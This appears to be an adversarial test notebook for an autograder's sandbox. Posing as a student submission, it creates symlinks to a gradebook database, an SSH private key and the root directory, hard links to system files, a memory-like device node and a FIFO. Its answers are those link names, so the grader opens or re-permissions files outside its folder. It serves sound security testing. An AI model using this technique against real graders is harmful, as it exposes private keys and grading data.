"""Makes links in its scratch folder that lead out of it, and asks for their names as answers.

Would have the judge, or a later look at the folder, open files outside, or change who may read them.

Plain nbgrader: changes files: it sets the mode of all that was graded, so a private key can be read by everybody.
"""

# %%
import os
from pathlib import Path

for name, target in (
    ("a", "@course@/gradebook.db"),
    ("b", "@home@/.ssh/id_ed25519"),
    ("c", "@course@/submitted"),
    ("d", "/"),
):
    try:
        os.symlink(target, name)
    except OSError:
        pass
# Plain nbgrader changes the mode of what these lead to: nothing there but what the test has made.
confined = "autograded" not in os.getcwd()
for path in ("/usr/bin/env", "@package@/__init__.py") if confined else ("@home@/notes.txt",):
    try:
        os.link(path, "hard")
    except OSError:
        pass
if confined:
    try:
        os.mknod("device", 0o20666, os.makedev(1, 1))
        print("LEAK" + "ED", "a device")
    except OSError:
        pass
    os.mkfifo("pipe")

# %% exercise="shrinking"
shrinking = Path("a")

# %% exercise="which_mistake"
which_mistake = "b"
